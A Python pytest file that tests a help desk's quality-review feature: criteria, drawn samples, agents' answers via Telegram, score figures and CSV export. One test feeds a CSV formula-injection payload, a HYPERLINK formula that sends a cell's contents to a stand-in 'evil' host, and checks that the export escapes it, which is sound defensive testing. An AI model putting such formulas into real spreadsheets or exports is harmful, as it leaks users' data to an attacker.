"""Quality reviews: criteria and samples in the panel, what agents get and answer in Telegram."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import AsyncIterator

import pytest
import pytest_asyncio

from db.database import Database
from desk import NotAllowed
from desk.reviews.reviewing import answer_review
from tests.flows import cast
from tests.flows.acts import filed_and_resolved
from tests.flows.clients import as_vera
from tests.flows.panel.browser import Browser, vera_at
from tests.flows.scenes import row, status
from tests.flows.stage import Stage
from tests.texts import piece_of, text_of

pytestmark = pytest.mark.sentence("Reviews")

POLITE, FAST = "Polite and clear", "Answered in time"


@pytest_asyncio.fixture
async def desk(database: Database) -> AsyncIterator[tuple[Stage, Browser]]:
    """A desk with Rita and Olga, and Vera signed in."""
    async with vera_at(database, cast.rita, cast.olga) as stood:
        yield stood


async def _drawn(stage: Stage, browser: Browser) -> tuple[int, str]:
    """Solve a request, add two criteria and draw it; return its number and the address of its review."""
    number = await filed_and_resolved(stage.rita, stage.olga, "The heating is cold")
    await stage.pass_time(seconds=11)
    await browser.opens("/reviews")
    assert text_of("page-reviews-off") in browser.text
    assert await browser.sends("/reviews", what="draw", reason="random", n="5") == ""
    assert text_of("reviews-off") in browser.text
    assert await browser.sends("/reviews", what="add", name=" ", weight="1") == ""
    assert text_of("review-criterion-wrong", most=120) in browser.text
    assert await browser.sends("/reviews", what="add", name=POLITE, weight="3") == "/reviews"
    assert await browser.sends("/reviews", what="add", name=FAST, weight="1") == "/reviews"
    assert await browser.sends("/reviews", what="draw", reason="random", n="0") == ""
    assert text_of("review-sample-wrong", most=50) in browser.text
    assert await browser.sends("/reviews", what="draw", reason="random", n="5") == "/reviews"
    await browser.opens("/reviews")
    link = re.search(r'href="(/reviews/\d+)">#' + str(number), browser.page)
    assert link is not None
    await browser.opens(link[1])
    return number, link[1]


def _marks(browser: Browser, *given: str) -> dict[str, str]:
    keys = list(dict.fromkeys(re.findall(r'name="(mark-\d+)"', browser.page)))
    return dict(zip(keys, given, strict=False))


async def test_a_review_is_drawn_marked_sent_and_answered_once(desk: tuple[Stage, Browser]) -> None:
    stage, browser = desk
    olga, rita = stage.olga, stage.rita
    number, at = await _drawn(stage, browser)
    got, was = len(await rita.received()), await status(stage, number)
    assert await browser.sends(at, **_marks(browser, "met"), comment="") == ""
    assert text_of("review-unmarked") in browser.text
    marks = _marks(browser, "met", "not")
    assert await browser.sends(at, **marks, comment="Good tone") == "/reviews"
    await stage.settle()
    assert await olga.reads() == text_of("review-of-you", number=number, score=75, words="Good tone", has=1)
    assert (len(await rita.received()), await status(stage, number)) == (got, was)
    assert await browser.sends(at, **marks, comment="") == ""
    assert text_of("review-done-already") in browser.text
    review = at.removeprefix("/reviews/")
    await olga.presses(f"review:{review}")
    assert await olga.reads() == text_of("review-ask", number=number)
    await olga.writes("I was on the phone")
    said = text_of("review-answer", number=number, name="Olga", words="I was on the phone")
    assert await stage.vera.reads() == said
    assert text_of("review-answered") in await olga.reads()
    await olga.presses(f"review:{review}")
    assert await olga.reads() == text_of("review-answered-already", number=number)
    await browser.opens(at)
    assert "I was on the phone" in browser.text
    await browser.opens("/reviews/results.csv")
    assert f"{number},Olga,Vera,random" in browser.page
    await olga.writes("/reviews")
    assert text_of("reviews-own") in await olga.reads()


async def test_no_part_of_an_answer_to_a_review_is_a_formula_in_its_file(desk: tuple[Stage, Browser]) -> None:
    stage, browser = desk
    olga = stage.olga
    _, at = await _drawn(stage, browser)
    await browser.sends(at, **_marks(browser, "met", "met"), comment="＝1+1")
    await stage.settle()
    await olga.presses(f"review:{at.removeprefix('/reviews/')}")
    await olga.writes('ok;=HYPERLINK("http://evil/?"&A1;"x")')
    await browser.opens("/reviews/results.csv")
    (line,) = csv.DictReader(io.StringIO(browser.page.removeprefix("\ufeff")))
    assert (line["comment"], line["answer"]) == ("'＝1+1", """ok;'=HYPERLINK("http://evil/?"&A1;"x")""")


async def test_only_whose_answers_were_reviewed_answers(desk: tuple[Stage, Browser]) -> None:
    stage, browser = desk
    _, at = await _drawn(stage, browser)
    assert await browser.sends(at, **_marks(browser, "met", "met"), comment="") == "/reviews"
    with pytest.raises(NotAllowed):
        async with as_vera(stage) as of_vera:
            await answer_review(of_vera, int(at.removeprefix("/reviews/")), "It was not me")


async def test_scores_are_figures_by_agent_and_criterion(desk: tuple[Stage, Browser]) -> None:
    stage, browser = desk
    vera = stage.vera
    await vera.writes("/stats reviews")
    assert (await vera.reads()).endswith(piece_of("stats-unknown"))
    _, at = await _drawn(stage, browser)
    await browser.sends(at, **_marks(browser, "met", "not"), comment="")
    await stage.settle()
    await vera.writes("/stats quality today")
    told = await vera.reads()
    assert f"{text_of('figure-review_score')}: 75" in told
    await browser.opens("/reports/figures?view=quality&period=today")
    assert POLITE in browser.text and FAST in browser.text
    await browser.opens("/reports/figures?view=figure&figure=criterion_score&by=criterion&period=today")
    assert POLITE in browser.text


async def test_a_criterion_that_does_not_apply_is_not_counted(desk: tuple[Stage, Browser]) -> None:
    stage, browser = desk
    number, at = await _drawn(stage, browser)
    assert await browser.sends(at, **_marks(browser, "none", "partly"), comment="") == "/reviews"
    await stage.settle()
    last = await stage.olga.reads()
    assert last == text_of("review-of-you", number=number, score=50, words="", has=0)
    found = await row(stage, "select score from reviews")
    assert found.score == 50


async def test_reviewers_see_where_reviews_are_done(desk: tuple[Stage, Browser]) -> None:
    stage, browser = desk
    vera, olga = stage.vera, stage.olga
    await vera.writes("/reviews")
    assert await vera.reads() == text_of("reviews-off")
    await olga.writes("/reviews")
    assert await olga.reads() == text_of("reviews-none")
    await _drawn(stage, browser)
    await vera.writes("/reviews")
    assert (await vera.reads()).startswith(text_of("reviews-waiting", n=1, address="")[:20])
